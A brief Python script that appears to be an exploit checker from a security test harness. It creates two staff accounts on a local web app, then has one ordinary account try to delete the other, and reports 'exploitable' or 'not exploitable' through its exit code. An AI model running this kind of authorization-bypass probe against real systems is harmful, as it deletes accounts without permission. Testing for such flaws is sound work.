import os
import sys
import time
import traceback

import httpx

BASE = os.environ.get("BASE_URL", "http://127.0.0.1:8000")
c = httpx.Client(base_url=BASE, timeout=60)


def _fail(t, v, tb):
    traceback.print_exception(t, v, tb)
    os._exit(2)


sys.excepthook = _fail


def done(hit):
    print("exploitable" if hit else "not exploitable")
    sys.exit(0 if hit else 1)


x = {"X-Requested-With": "board"}


def client(n, p):
    d = httpx.Client(base_url=BASE, headers=x, timeout=30)
    assert d.post("/session", json={"name": n, "password": p}).status_code == 200
    return d


k = client("chief", os.environ["BOARD_CHIEF_PASSWORD"])
for n in ("ann", "bob"):
    k.post("/staff", json={"name": n, "password": n * 4 + "-pw"})
done(client("ann", "annannannann-pw").delete("/staff/bob").status_code == 204)
